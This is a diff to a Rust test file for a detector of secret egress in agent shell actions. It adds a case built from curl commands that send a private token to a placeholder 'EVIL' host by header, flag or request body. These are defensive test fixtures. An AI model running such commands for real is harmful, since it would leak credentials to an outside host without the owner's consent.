@@ -4,7 +4,7 @@ use super::SecretEgress;
 use portcullis_builtin_shared::harness::{check_bytes, check_refusals, evidence};
 use portcullis_builtin_shared::sample::{Newest, shell};
 use portcullis_plugin::pattern::{Detection, Pattern};
-use portcullis_plugin::testing::{self, BuildAction, PatternRun, step};
+use portcullis_plugin::testing::{self, BuildAction, BuildContext, PatternRun, step};
 use portcullis_plugin::types::{
     Action, EffectKind, Operation, Setting, SettingValue, Severity, Status, Step,
 };
@@ -327,6 +327,27 @@ fn databases_are_signed_in_to() {
 
 fn reads_env() -> Move {
     ran(reads())
+}
+
+#[test]
+fn a_sign_in_to_a_machine_that_the_request_names_is_expected() {
+    let goal = format!("Log in to https://{EVIL}:8929/users and close the open tickets.");
+    let get = |rest: &str| {
+        shell(&format!("curl {rest}"))
+            .affects(EffectKind::Network, &format!("https://{EVIL}/api"))
+            .by(0)
+    };
+    for (name, goal, action, expected) in [
+        ("named", goal.as_str(), get(&format!("-H Private-Token:{TOKEN} x")), false),
+        ("not named", "Close the tickets.", get(&format!("-H Private-Token:{TOKEN} x")), true),
+        ("a part of the name", "See example.net", get(&format!("--token {TOKEN} x")), true),
+        ("in what is sent", goal.as_str(), get(&format!("-d {TOKEN} x")), true),
+    ] {
+        let mut run = PatternRun::<SecretEgress>::new(&[]).expect("no settings are right");
+        let context = testing::context().goal(goal);
+        let report = run.ask(&testing::history([]), &action, &context).expect("it answers");
+        assert_eq!(!report.detections.is_empty(), expected, "{name}: {:?}", report.detections);
+    }
 }
 
 #[test]
